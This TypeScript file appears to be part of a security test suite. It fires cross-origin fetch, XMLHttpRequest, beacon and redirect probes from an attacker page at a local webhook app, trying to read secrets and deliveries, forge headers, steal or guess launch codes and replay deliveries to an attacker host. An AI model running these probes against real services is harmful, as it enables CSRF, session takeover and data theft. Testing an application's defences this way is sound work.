/** Requests that a script makes: fetch in all its modes, XMLHttpRequest, beacons, and redirects that lead to us. */
import { type Attack, fetchAttack, guess, judgeText, type Knowledge, messageOf, nothing, patienceMs, within } from './attack.ts';

const json = { 'content-type': 'application/json' };
const intruder = (name: string) => JSON.stringify({ slug: name, name });
const testEvents = ({ endpointId }: Knowledge) => `/api/endpoints/${endpointId}/test-events`;
const redirect = ({ attacker }: Knowledge, status: number, to: string) =>
  `${attacker}/redirect?status=${status}&to=${encodeURIComponent(to)}`;

const reads: readonly Attack[] = [
  fetchAttack('fetch health', () => ['/api/health']),
  fetchAttack('fetch deliveries', () => ['/api/deliveries']),
  fetchAttack('fetch secrets', ({ endpointId }) => [`/api/endpoints/${endpointId}/secrets`]),
  fetchAttack('fetch a body by the API', ({ deliveryId }) => [`/api/deliveries/${deliveryId}/body`]),
  fetchAttack('fetch a body by its blob', ({ deliveryId }) => [`/blobs/deliveries/${deliveryId}`]),
  fetchAttack('fetch a part of a body', ({ deliveryId }) => [`/blobs/deliveries/${deliveryId}`, { headers: { range: 'bytes=0-9' } }]),
  fetchAttack('fetch the start page', () => ['/']),
  fetchAttack('fetch a script of the page', ({ files }) => [files.script]),
  fetchAttack('fetch the OpenAPI document', () => ['/api/openapi.json']),
  fetchAttack('fetch sessions', () => ['/api/sessions']),
  fetchAttack('fetch the feed', () => ['/api/feed?subscription=attack']),
  fetchAttack('fetch with credentials', () => ['/api/deliveries', { credentials: 'include' }]),
  fetchAttack('fetch with a guessed token', () => ['/api/deliveries', { headers: { authorization: `Bearer ${guess}` } }]),
  fetchAttack('fetch with headers that lie about the origin', () => [
    '/api/deliveries',
    { headers: { 'sec-fetch-site': 'same-origin', origin: 'http://127.0.0.1', host: '127.0.0.1', cookie: 'token=x' } },
  ]),
  fetchAttack('fetch with X-Forwarded-Host', () => [
    '/api/deliveries',
    { headers: { 'x-forwarded-host': 'localhost', 'x-real-ip': '127.0.0.1' } },
  ]),
  fetchAttack('fetch in mode same-origin', () => ['/api/deliveries', { mode: 'same-origin' }]),
  fetchAttack('fetch from the cache', ({ files }) => [files.script, { cache: 'force-cache' }]),
  fetchAttack('fetch with redirect manual', () => ['/api/deliveries', { redirect: 'manual' }]),
  fetchAttack('HEAD of a body', ({ deliveryId }) => [`/blobs/deliveries/${deliveryId}`, { method: 'HEAD' }]),
  fetchAttack('OPTIONS', () => ['/api/deliveries', { method: 'OPTIONS' }]),
  fetchAttack('QUERY', () => ['/api/deliveries', { method: 'QUERY' }]),
  fetchAttack('fetch without CORS', () => ['/api/deliveries', { mode: 'no-cors' }]),
  fetchAttack('fetch a script without CORS', ({ files }) => [files.script, { mode: 'no-cors' }]),
  fetchAttack('fetch with an integrity that would confirm a guess', ({ files }) => [
    files.script,
    { mode: 'cors', integrity: `sha256-${'A'.repeat(43)}=` },
  ]),
];

const writes: readonly Attack[] = [
  fetchAttack('POST JSON', () => ['/api/endpoints', { method: 'POST', headers: json, body: intruder('post-json') }]),
  fetchAttack('POST JSON as text', () => ['/api/endpoints', { method: 'POST', mode: 'no-cors', body: intruder('json-as-text') }]),
  fetchAttack('POST without a body', (known) => [testEvents(known), { method: 'POST', mode: 'no-cors' }]),
  fetchAttack('POST with credentials', (known) => [testEvents(known), { method: 'POST', mode: 'no-cors', credentials: 'include' }]),
  fetchAttack('POST a form', () => [
    '/api/endpoints',
    { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ slug: 'form', name: 'form' }) },
  ]),
  fetchAttack('POST multipart', () => {
    const body = new FormData();
    body.set('slug', 'multipart');
    return ['/api/endpoints', { method: 'POST', mode: 'no-cors', body }];
  }),
  fetchAttack('POST bytes without a type', () => [
    '/api/endpoints',
    { method: 'POST', mode: 'no-cors', body: new Blob([intruder('bytes')]) },
  ]),
  fetchAttack('POST that outlives the page', (known) => [testEvents(known), { method: 'POST', mode: 'no-cors', keepalive: true }]),
  fetchAttack('POST with a method in the query', () => [
    '/api/settings?_method=PATCH&theme=dark',
    { method: 'POST', mode: 'no-cors', body: '{"theme":"dark"}' },
  ]),
  fetchAttack('PATCH settings', () => ['/api/settings', { method: 'PATCH', headers: json, body: '{"theme":"dark"}' }]),
  fetchAttack('PUT', () => ['/api/settings', { method: 'PUT', headers: json, body: '{"theme":"dark"}' }]),
  fetchAttack('DELETE sessions', () => ['/api/sessions', { method: 'DELETE' }]),
  fetchAttack('reveal a secret', () => ['/api/secrets/sec_1/reveal', { method: 'POST', mode: 'no-cors' }]),
  fetchAttack('start a replay', ({ deliveryId, attacker }) => [
    '/api/replays',
    { method: 'POST', mode: 'no-cors', body: JSON.stringify({ set: { ids: [deliveryId] }, target: { url: attacker } }) },
  ]),
  fetchAttack('ask for a launch link', () => ['/api/session-codes', { method: 'POST', mode: 'no-cors' }]),
  fetchAttack('ask for a launch link with CORS', () => ['/api/session-codes', { method: 'POST', headers: json }]),
  fetchAttack('use the launch code a second time', ({ usedCode }) => [
    '/session',
    { method: 'POST', headers: json, body: JSON.stringify({ code: usedCode }) },
  ]),
  fetchAttack('use a stolen live launch code', ({ liveCode }) => [
    '/session',
    { method: 'POST', headers: json, body: JSON.stringify({ code: liveCode }) },
  ]),
  fetchAttack('use a stolen live launch code without CORS', ({ liveCode }) => [
    '/session',
    { method: 'POST', mode: 'no-cors', body: JSON.stringify({ code: liveCode }) },
  ]),
  fetchAttack('guess the launch code', () => ['/session', { method: 'POST', headers: json, body: JSON.stringify({ code: guess }) }]),
];

const redirects: readonly Attack[] = [
  ...[301, 302, 303, 307, 308].map((status) =>
    fetchAttack(`fetch that is redirected with ${status}`, (known) => [redirect(known, status, `${known.base}/api/deliveries`)]),
  ),
  ...[301, 307, 308].map((status) =>
    fetchAttack(`POST that is redirected with ${status}`, (known) => [
      redirect(known, status, `${known.base}${testEvents(known)}`),
      { method: 'POST', mode: 'no-cors', body: intruder(`redirected-${status}`) },
    ]),
  ),
  fetchAttack('POST JSON that is redirected with 308', (known) => [
    redirect(known, 308, `${known.base}/api/endpoints`),
    { method: 'POST', body: intruder('redirected-cors') },
  ]),
];

interface Ask {
  readonly method: string;
  readonly path: string;
  readonly isSync?: boolean;
  readonly withCredentials?: boolean;
}

function xhrAttack(name: string, ask: (knowledge: Knowledge) => Ask): Attack {
  return {
    name,
    run: (knowledge) =>
      within(
        new Promise((resolve) => {
          const { method, path, isSync = false, withCredentials = false } = ask(knowledge);
          const request = new XMLHttpRequest();
          request.onload = () => resolve(judgeText(knowledge, request.status, request.responseText));
          request.onerror = () => resolve(request.status === 0 ? nothing('error') : judgeText(knowledge, request.status, ''));
          try {
            request.open(method, `${knowledge.base}${path}`, !isSync);
            request.withCredentials = withCredentials;
            request.send();
          } catch (error) {
            resolve(nothing(messageOf(error)));
          }
        }),
      ),
  };
}

const others: readonly Attack[] = [
  xhrAttack('XMLHttpRequest', () => ({ method: 'GET', path: '/api/deliveries' })),
  xhrAttack('XMLHttpRequest with credentials', () => ({ method: 'GET', path: '/api/deliveries', withCredentials: true })),
  xhrAttack('XMLHttpRequest that blocks', () => ({ method: 'GET', path: '/api/deliveries', isSync: true })),
  xhrAttack('XMLHttpRequest that writes', (known) => ({ method: 'POST', path: testEvents(known) })),
  beaconAttack('beacon of text', (known) => [testEvents(known), 'x']),
  beaconAttack('beacon of JSON', () => ['/api/endpoints', new Blob([intruder('beacon')], { type: 'application/json' })]),
  {
    name: 'what the browser tells of sizes and statuses',
    async run({ base, isRebound }) {
      await fetch(`${base}/api/deliveries`, { mode: 'no-cors', signal: AbortSignal.timeout(patienceMs) }).catch(() => undefined);
      const entries = performance.getEntriesByType('resource').filter((entry) => entry.name.startsWith(base));
      const told = entries.flatMap((entry) =>
        entry instanceof PerformanceResourceTiming ? [entry.transferSize, entry.encodedBodySize, entry.decodedBodySize] : [],
      );
      // why: on a rebound name these are the sizes of refusals.
      return isRebound || told.every((one) => one === 0)
        ? nothing(`${entries.length} entries`)
        : { read: `sizes ${told.join(' ')}`, note: '' };
    },
  },
];

function beaconAttack(name: string, what: (knowledge: Knowledge) => readonly [string, BodyInit]): Attack {
  return {
    name,
    async run(knowledge) {
      const [path, body] = what(knowledge);
      return nothing(`queued: ${navigator.sendBeacon(`${knowledge.base}${path}`, body)}`);
    },
  };
}

/** The same few through other spellings of this machine. */
export function aliasAttacks(aliases: readonly string[]): readonly Attack[] {
  return aliases.flatMap((alias) => {
    const at = (name: string, path: (known: Knowledge) => string, init: RequestInit = {}) =>
      fetchAttack(`${name} at ${alias.replace(/:\d+$/, '')}`, (known) => [`${alias}${path(known)}`, init]);
    return [
      at('fetch deliveries', () => '/api/deliveries'),
      at('fetch the start page', () => '/'),
      at('POST without a body', testEvents, { method: 'POST', mode: 'no-cors' }),
    ];
  });
}

export const fetches: readonly Attack[] = [...reads, ...writes, ...redirects, ...others];
